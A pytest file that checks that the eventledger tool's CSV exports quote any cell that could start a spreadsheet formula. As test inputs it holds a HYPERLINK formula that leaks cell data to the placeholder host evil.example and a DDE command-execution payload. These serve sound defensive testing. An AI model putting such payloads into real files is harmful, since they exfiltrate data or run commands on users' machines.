"""CSV exports open safely in a spreadsheet: no cell of report text is ever read as a formula."""

from __future__ import annotations

import csv
import io
import json

from click.testing import CliRunner

from eventledger.cli import cli
from eventledger.pipeline import Ingestor
from eventledger.report.formats import csv_cell, events_csv, tally_csv
from eventledger.store.db import Store

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _dangerous(cell: str) -> bool:
    """A cell a spreadsheet would evaluate (a plain negative number is just a number)."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell.startswith(TRIGGERS)


def test_cells_that_start_a_formula_get_a_quote_and_nothing_else_changes():
    for start in TRIGGERS:
        assert csv_cell(start + "1+1") == "'" + start + "1+1"
    for kept in ("Shiraz", "2023-02-18", "'quoted", " =spaced", "", None, -3, 2.5, 0):
        assert csv_cell(kept) == kept


def test_tally_csv_quotes_formula_keys():
    out = tally_csv({"total": 2, "by_outlet": {FORMULA: 1, "-2+3": 1, "Iran Monitor": 0}})
    cells = _cells(out)
    assert not any(_dangerous(c) for c in cells)
    assert "'" + FORMULA in cells and "'-2+3" in cells and "Iran Monitor" in cells


def _event(outlet: str, place: str) -> dict[str, object]:
    return {
        "id": 7, "category": "violence", "subtype": "arson", "date": "2023-02-17", "date_jalali": "1401-11-28",
        "date_precision": "day", "place": {"name": place, "name_fa": "@fa", "country": "IR", "admin1": "IR-07",
        "lat": 29.6, "lon": -52.5, "precision": "city"}, "quantity": None, "actor": "+actor",
        "claim_status": "reported", "n_sources": 1, "n_mentions": 1, "confidence": 0.9,
        "review_status": "unreviewed", "sources": [{"external_id": "\tid", "url": "\rhttp://x", "outlet": outlet}],
    }  # fmt: skip


def test_events_csv_quotes_every_text_column_and_keeps_numbers():
    buf = io.StringIO()
    events_csv([_event(FORMULA, "=cmd|' /C calc'!A0")], buf)
    header, row = list(csv.reader(io.StringIO(buf.getvalue())))
    values = dict(zip(header, row, strict=True))
    assert not any(_dangerous(c) for c in row)
    assert values["source_outlets"] == "'" + FORMULA and values["place_name"] == "'=cmd|' /C calc'!A0"
    assert values["actor"] == "'+actor" and values["place_name_fa"] == "'@fa"
    assert values["lon"] == "-52.5"  # a number is a number
    assert values["source_urls"] == "'\rhttp://x"  # quoted: a lone CR in a cell starts no new row


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    out = tally_csv({"total": 1, "by_outlet": {"fine\r=HYPERLINK(1)": 1}})
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[-1] == ["outlet", "fine\r=HYPERLINK(1)", "1"] and len(rows) == 3


def test_cli_exports_of_a_hostile_outlet_are_safe(tmp_path):
    """An outlet named like a formula, from ingest to `events`/`tally --format csv`."""
    src = tmp_path / "hostile.jsonl"
    record = {
        "id": "f-1",
        "url": "https://example.org/a",
        "outlet": FORMULA,
        "published": "2023-02-18T09:15:00+03:30",
        "lang": "en",
        "title": "Banner burned in Shiraz",
        "text": "Supporters of the group set fire to a large banner of the Supreme Leader in Shiraz on Friday night.",
    }
    src.write_text(json.dumps(record) + "\n", encoding="utf-8")
    db = tmp_path / "f.db"
    store = Store.open(db)
    Ingestor(store).ingest([src])
    store.close()
    runner = CliRunner()
    events = runner.invoke(cli, ["--db", str(db), "events", "--period", "1401", "--format", "csv"], obj={})
    assert events.exit_code == 0, events.output
    cells = _cells(events.output)
    assert "'" + FORMULA in cells and not any(_dangerous(c) for c in cells)
    tally = runner.invoke(
        cli, ["--db", str(db), "tally", "--period", "1401", "--by", "outlet", "--format", "csv"], obj={}
    )
    assert tally.exit_code == 0, tally.output
    assert f'outlet,"\'{FORMULA.replace(chr(34), chr(34) * 2)}",1' in tally.output
